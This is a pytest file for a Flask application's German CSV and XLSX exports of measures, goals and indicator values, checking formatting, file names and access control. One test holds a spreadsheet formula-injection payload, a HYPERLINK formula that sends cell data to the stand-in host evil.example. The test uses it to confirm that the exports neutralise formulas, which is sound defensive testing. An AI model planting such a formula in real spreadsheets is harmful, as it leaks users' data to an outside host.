"""The cycle's exports: measures, goals and indicator values as CSV for German spreadsheets
(UTF-8 with BOM, semicolons, decimal commas, German headings, ISO dates, one charset in the
content type) and as one XLSX workbook with the same rows, with formulas neutralised, each
named after what it holds, the organisation, the cycle and the day; for members of the
cycle's organisation only."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from typing import Any
from urllib.parse import quote
from uuid import UUID
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from engine.application.service import Qualizyklus
from tests.web.conftest import COORDINATOR, OTHER_COORDINATOR, VIEWER, cycle_ids, get, sign_in
from web.reports.exports import GOAL_COLUMNS, INDICATOR_COLUMNS, MEASURE_COLUMNS

SLUG = "lk-musterland"
NAMES = ("measures", "goals", "indicators")
HEADINGS = {
    "measures": [column.heading for column in MEASURE_COLUMNS],
    "goals": [column.heading for column in GOAL_COLUMNS],
    "indicators": [column.heading for column in INDICATOR_COLUMNS],
}
SHEETS = {"measures": "Maßnahmen", "goals": "Ziele", "indicators": "Indikatorwerte"}
GERMAN_STATUSES = {
    "planned": "geplant",
    "running": "läuft",
    "done": "erledigt",
    "blocked": "blockiert",
    "dropped": "verworfen",
    "carried-over": "übertragen",
}
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Bericht")'


def engine_of(web_app: Flask) -> Qualizyklus:
    found: Qualizyklus = web_app.extensions["qualizyklus"]
    return found


def csv_rows(client: FlaskClient, cycle_id: str, name: str) -> list[list[str]]:
    """An export's rows (header first), checking the encoding on the way."""
    response = get(client, f"/o/{SLUG}/cycles/{cycle_id}/export/{name}.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.data.startswith("\ufeff".encode())
    text = response.data.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def workbook_rows(client: FlaskClient, cycle_id: str) -> dict[str, list[list[Any]]]:
    response = get(client, f"/o/{SLUG}/cycles/{cycle_id}/export/plan.xlsx")
    assert response.status_code == 200
    assert str(response.mimetype).endswith("spreadsheetml.sheet")
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == [SHEETS[name] for name in NAMES]
    return {
        name: [list(row) for row in workbook[SHEETS[name]].iter_rows(values_only=True)]
        for name in NAMES
    }


def as_csv(value: Any) -> str:
    """A workbook cell as the CSV writes it."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.date().isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, float):
        return repr(value).replace(".", ",")
    return str(value)


def number(value: float | None) -> str:
    if value is None:
        return ""
    return str(int(value)) if float(value).is_integer() else repr(value).replace(".", ",")


def day(value: date | None) -> str:
    return value.isoformat() if value else ""


@pytest.fixture
def running(client: FlaskClient) -> str:
    """The demo's running cycle, signed in as the organisation's viewer (who may read)."""
    sign_in(client, VIEWER)
    return cycle_ids(client, SLUG)[0]


def test_the_measures_csv_matches_the_cycles_measures(
    client: FlaskClient, web_app: Flask, running: str
) -> None:
    engine = engine_of(web_app)
    cycle = engine.cycle(UUID(running))
    names = engine.display_names(
        m["responsible_member_id"] for m in cycle["measures"].values() if m["responsible_member_id"]
    )

    header, *rows = csv_rows(client, running, "measures")

    assert header == HEADINGS["measures"]
    assert header[:3] == ["Maßnahme-ID", "Maßnahme", "Ziel-ID"]
    expected = [
        [
            measure_id,
            m["title"],
            m["goal_id"] or "",
            cycle["goals"][m["goal_id"]]["title"] if m["goal_id"] else "",
            m["theme_id"],
            engine.themes[m["theme_id"]].title.de,
            names[m["responsible_member_id"]] if m["responsible_member_id"] else "",
            m["status"],
            GERMAN_STATUSES[m["status"]],
            day(m["start"]),
            day(m["due"]),
            m["resources"] or "",
        ]
        for measure_id, m in cycle["measures"].items()
    ]
    assert rows == expected


def test_the_goals_csv_matches_the_cycles_goals_with_plain_numbers(
    client: FlaskClient, web_app: Flask, running: str
) -> None:
    cycle = engine_of(web_app).cycle(UUID(running))

    header, *rows = csv_rows(client, running, "goals")

    assert header == HEADINGS["goals"]
    assert len(rows) == len(cycle["goals"])
    for row, (goal_id, goal) in zip(rows, cycle["goals"].items(), strict=True):
        found = dict(zip(header, row, strict=True))
        latest = max(goal["values"], key=lambda v: v["measured_on"])
        assert found["Ziel-ID"] == goal_id and found["Ziel"] == goal["title"]
        assert found["Indikator"] == goal["indicator"] and found["Einheit"] == goal["unit"]
        assert found["Ausgangswert"] == number(goal["baseline"])
        assert found["Zielwert"] == number(goal["target"])
        assert found["Fällig"] == day(goal["due"])
        assert found["Letzter Wert"] == number(latest["value"])
        assert found["Letzter Wert am"] == latest["measured_on"].isoformat()
    assert "," not in "".join(dict(zip(header, r, strict=True))["Ausgangswert"] for r in rows)


def test_the_indicators_csv_lists_every_measured_value(
    client: FlaskClient, web_app: Flask, running: str
) -> None:
    cycle = engine_of(web_app).cycle(UUID(running))

    header, *rows = csv_rows(client, running, "indicators")

    assert header == HEADINGS["indicators"]
    expected = [
        [
            goal_id,
            goal["title"],
            goal["indicator"],
            goal["unit"],
            value["measured_on"].isoformat(),
            number(value["value"]),
            value["source"] or "",
        ]
        for goal_id, goal in cycle["goals"].items()
        for value in sorted(goal["values"], key=lambda v: v["measured_on"])
    ]
    assert expected and rows == expected


def test_a_reviewed_goal_exports_its_verdict_code_and_label(client: FlaskClient) -> None:
    sign_in(client, COORDINATOR)
    closed = cycle_ids(client, SLUG)[1]

    header, *rows = csv_rows(client, closed, "goals")

    verdicts = [dict(zip(header, row, strict=True)) for row in rows]
    assert {"reached", "partly", "not"} >= {v["Bewertung-Code"] for v in verdicts}
    assert any(v["Bewertung-Code"] == "reached" and v["Bewertung"] == "erreicht" for v in verdicts)


def test_the_workbook_holds_three_sheets_with_the_same_rows(
    client: FlaskClient, running: str
) -> None:
    sheets = workbook_rows(client, running)

    for name in NAMES:
        expected = csv_rows(client, running, name)
        assert [[as_csv(cell) for cell in row] for row in sheets[name]] == expected
    goals = sheets["goals"]
    baseline = goals[0].index("Ausgangswert")
    assert all(isinstance(row[baseline], int | float) for row in goals[1:])
    measured = sheets["indicators"][0].index("Gemessen am")
    assert all(isinstance(row[measured], datetime) for row in sheets["indicators"][1:])


def test_numbers_have_a_decimal_comma_for_german_excel(client: FlaskClient, web_app: Flask) -> None:
    engine = engine_of(web_app)
    sign_in(client, COORDINATOR)
    running = cycle_ids(client, SLUG)[0]
    profile = engine.profiles.by_email(COORDINATOR)
    assert profile is not None
    actor = str(profile["person_id"])
    goal_id = next(iter(engine.cycle(UUID(running))["goals"]))
    for value, day_ in ((0.0001, date(2030, 6, 1)), (62.5, date(2030, 7, 1))):
        engine.record_indicator_value(
            UUID(running), actor_id=actor, goal_id=goal_id, value=value, measured_on=day_
        )

    header, *rows = csv_rows(client, running, "goals")
    goal = dict(zip(header, next(r for r in rows if r[0] == goal_id), strict=True))
    values = csv_rows(client, running, "indicators")
    measured = {r[4]: r[5] for r in values[1:] if r[0] == goal_id}

    assert (goal["Letzter Wert"], goal["Letzter Wert am"]) == ("62,5", "2030-07-01")
    assert measured["2030-06-01"] == "0,0001"  # no exponent
    sheet = workbook_rows(client, running)["goals"]
    assert next(row for row in sheet if row[0] == goal_id)[9] == 62.5  # a number in the workbook


@pytest.mark.parametrize(
    ("path", "name", "kind"),
    [
        ("export/measures.csv", "Maßnahmen", "attachment"),
        ("export/goals.csv", "Ziele", "attachment"),
        ("export/indicators.csv", "Indikatorwerte", "attachment"),
        ("export/plan.xlsx", "Ziele, Maßnahmen, Indikatorwerte", "attachment"),
        ("report.pdf", "Qualitätsbericht", "inline"),
    ],
)
def test_files_are_named_after_organisation_cycle_and_day(
    client: FlaskClient, web_app: Flask, running: str, path: str, name: str, kind: str
) -> None:
    title = engine_of(web_app).cycle(UUID(running))["title"]
    today = datetime.now(ZoneInfo("Europe/Berlin")).date().isoformat()
    extension = path.rsplit(".", 1)[1]
    full = f"{name} - Landkreis Musterland - {title.replace('/', '-')} - {today}.{extension}"

    disposition = get(client, f"/o/{SLUG}/cycles/{running}/{path}").headers["Content-Disposition"]

    assert disposition.startswith(f'{kind}; filename="')
    assert disposition.endswith(f"; filename*=UTF-8''{quote(full, safe='')}")
    ascii_name = disposition.split('"')[1]
    assert ascii_name.isascii() and ascii_name.endswith(f" - {today}.{extension}")
    assert running not in disposition


def test_english_readers_get_the_same_files(client: FlaskClient, running: str) -> None:
    german = csv_rows(client, running, "measures")
    english = client.get(
        f"/o/{SLUG}/cycles/{running}/export/measures.csv",
        base_url="https://localhost",
        headers={"Accept-Language": "en"},
    )
    text = english.data.decode("utf-8").removeprefix("\ufeff")
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=";")) == german


def test_formulas_in_titles_are_neutralised_in_csv_and_xlsx(
    client: FlaskClient, web_app: Flask
) -> None:
    engine = engine_of(web_app)
    sign_in(client, COORDINATOR)
    running = cycle_ids(client, SLUG)[0]
    profile = engine.profiles.by_email(COORDINATOR)
    assert profile is not None
    engine.plan_measure(
        UUID(running),
        actor_id=str(profile["person_id"]),
        measure_id="formel",
        title=FORMULA,
        theme_id=engine.cycle(UUID(running))["themes"][0],
        resources="@SUM(1+1)",
    )

    header, *rows = csv_rows(client, running, "measures")
    row = dict(zip(header, next(r for r in rows if r[0] == "formel"), strict=True))
    assert row["Maßnahme"] == "'" + FORMULA
    assert row["Ressourcen"] == "'@SUM(1+1)"

    response = get(client, f"/o/{SLUG}/cycles/{running}/export/plan.xlsx")
    sheet = load_workbook(io.BytesIO(response.data))["Maßnahmen"]
    cells = {c.value: c for r in sheet.iter_rows() for c in r if c.value}
    title = cells["'" + FORMULA]
    assert title.data_type == "s"
    assert "'@SUM(1+1)" in cells
    formulas = [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []

    page = get(client, f"/o/{SLUG}/cycles/{running}/report").get_data(as_text=True)
    assert "=HYPERLINK(&#34;https://evil.example" in page or "=HYPERLINK(&quot;" in page


PATHS = ("export/measures.csv", "export/goals.csv", "export/indicators.csv", "export/plan.xlsx")


@pytest.mark.parametrize("path", PATHS)
def test_signed_out_downloads_lead_to_sign_in(
    client: FlaskClient, web_app: Flask, path: str
) -> None:
    engine = engine_of(web_app)
    organisation = engine.organisation_by_slug(SLUG)
    cycle_id = engine.cycles_of(UUID(organisation["id"]))[0]["id"]

    response = get(client, f"/o/{SLUG}/cycles/{cycle_id}/{path}")

    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login?next=")


@pytest.mark.parametrize("path", PATHS)
def test_another_organisations_member_gets_nothing(
    client: FlaskClient, running: str, path: str
) -> None:
    other = client.application.test_client()
    sign_in(other, OTHER_COORDINATOR)

    for address in (
        f"/o/{SLUG}/cycles/{running}/{path}",
        f"/o/beispielstadt/cycles/{running}/{path}",
    ):
        response = get(other, address)
        assert response.status_code == 404
        assert b"Ziel-ID" not in response.data


def test_an_unknown_export_or_cycle_is_not_found(client: FlaskClient, running: str) -> None:
    assert get(client, f"/o/{SLUG}/cycles/{running}/export/everything.csv").status_code == 404
    unknown = "00000000-0000-0000-0000-000000000000"
    assert get(client, f"/o/{SLUG}/cycles/{unknown}/export/goals.csv").status_code == 404
    assert get(client, f"/o/{SLUG}/cycles/{unknown}/export/plan.xlsx").status_code == 404
